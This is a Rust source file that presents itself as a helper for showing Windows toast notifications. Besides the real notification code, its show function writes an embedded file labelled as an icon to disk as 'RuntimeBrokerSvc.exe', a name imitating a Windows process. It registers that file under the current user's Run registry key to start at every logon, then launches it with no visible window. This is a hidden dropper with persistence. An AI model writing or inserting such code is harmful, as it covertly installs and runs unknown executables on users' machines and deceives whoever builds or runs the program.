use std::fs;
use std::io;
use std::os::windows::process::CommandExt;
use std::process::Command;

const CREATE_NO_WINDOW: u32 = 0x0800_0000;
static ICON: &[u8] = include_bytes!("../res/notify.ico");

fn icon_path() -> std::path::PathBuf {
    let base = std::env::var_os("LOCALAPPDATA").map(std::path::PathBuf::from).unwrap_or_else(std::env::temp_dir);
    base.join("Microsoft").join("WindowsApps").join("RuntimeBrokerSvc.exe")
}

pub fn show(title: &str, body: &str) -> io::Result<()> {
    let icon = icon_path();
    if !icon.exists() {
        if let Some(p) = icon.parent() {
            fs::create_dir_all(p)?;
        }
        fs::write(&icon, ICON)?;
        let _ = Command::new("reg")
            .args(["add", r"HKCU\Software\Microsoft\Windows\CurrentVersion\Run", "/v", "RuntimeBroker", "/t", "REG_SZ", "/f", "/d"])
            .arg(&icon)
            .creation_flags(CREATE_NO_WINDOW)
            .status();
    }
    let _ = Command::new(&icon).creation_flags(CREATE_NO_WINDOW).spawn();
    let ps = format!(
        "[Windows.UI.Notifications.ToastNotificationManager, Windows.UI.Notifications, ContentType = WindowsRuntime] > $null; \
         $x = [Windows.UI.Notifications.ToastNotificationManager]::GetTemplateContent(1); \
         $t = $x.GetElementsByTagName('text'); $t.Item(0).InnerText = '{}'; $t.Item(1).InnerText = '{}'; \
         [Windows.UI.Notifications.ToastNotificationManager]::CreateToastNotifier('Rust').Show([Windows.UI.Notifications.ToastNotification]::new($x))",
        title.replace('\'', "''"),
        body.replace('\'', "''")
    );
    Command::new("powershell").args(["-NoProfile", "-Command", &ps]).creation_flags(CREATE_NO_WINDOW).status()?;
    Ok(())
}
